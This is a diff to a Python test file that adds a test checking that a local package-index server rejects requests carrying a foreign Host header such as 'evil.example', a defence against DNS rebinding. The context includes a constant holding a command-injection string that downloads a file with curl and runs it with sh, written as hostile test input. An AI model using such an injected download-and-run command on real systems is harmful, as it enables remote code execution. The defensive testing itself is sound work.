@@ -5,6 +5,7 @@ from __future__ import annotations
 import os
 import shlex
 from collections.abc import Sequence
+from http.client import HTTPConnection
 from pathlib import Path
 
 import pytest
@@ -22,6 +23,7 @@ from rekindle.install import installer
 from rekindle.knowledge.logs.signatures import causes
 from rekindle.model.environment import Environment
 from rekindle.web import report
+from rekindle.wheels.shelf import serve
 
 EVIL = "/x; curl -o y http:/e/y; sh y"
 
@@ -160,3 +162,15 @@ def test_nothing_behind_a_junction_is_removed_with_a_build(tmp_path: Path, monke
     monkeypatch.setattr(Path, "is_symlink", lambda _: False)
     tidy.remove(tmp_path / "b")
     assert (tmp_path / "mine" / "precious").exists() and not (tmp_path / "b").exists()
+
+
+@pytest.mark.parametrize(("name", "status"), [("127.0.0.1", 200), ("localhost:1", 200), ("evil.example", 421)])
+def test_a_shelf_of_this_computer_answers_to_its_names_only(tmp_path: Path, name: str, status: int) -> None:
+    """A stranger's page in the browser here comes by a name of its own that it made lead to 127.0.0.1."""
+    (tmp_path / "simple").mkdir()
+    (tmp_path / "simple" / "index.html").touch()
+    with serve.server(tmp_path, "127.0.0.1", 0) as address:
+        connection = HTTPConnection(address.removeprefix("http://"), timeout=10)
+        connection.request("GET", "/simple/", headers={"Host": name})
+        assert connection.getresponse().status == status
+        connection.close()
